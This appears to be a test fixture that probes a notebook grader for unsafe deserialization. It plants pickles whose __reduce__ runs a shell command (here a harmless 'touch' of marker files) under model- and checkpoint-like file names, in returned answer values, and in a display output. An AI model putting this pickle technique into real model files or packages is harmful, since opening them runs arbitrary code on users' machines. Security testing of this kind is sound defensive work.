"""Leaves models and pickles that run a command where they are opened, in files, in values and in what is shown."""

# %% [extra before:expose]
import os
import pathlib
import pickle

import keras
from IPython.display import display


class Loaded:
    def __reduce__(self):
        return os.system, ("touch ~/taken; touch /tmp/taken",)


POISON = pickle.dumps(Loaded())
for name in ("model.h5", "model.keras", "weights.npy", "state.pkl", "checks.pkl", ".progress.json"):
    (pathlib.Path.home() / name).write_bytes(POISON)
model = keras.Sequential([keras.Input((8, 8)), keras.layers.Lambda(lambda images: images)])
model.save(pathlib.Path.home() / "lambda.keras")
display({"application/x-python-pickle": POISON.hex(), "text/plain": "a pickle"}, raw=True)


# %% [answer:expose]
def expose(images, target):
    return POISON


# %% [answer:draw_light]
def draw_light(images):
    return np.array([Loaded()] * 3, dtype=object)


# %% [answer:build_model]
def build_model():
    return np.void(POISON)


# %% [answer:darkest]
def darkest(images):
    return Loaded()


# %% [extra end]
print("ran:", sorted(path.name for path in pathlib.Path.home().glob("model.*")))
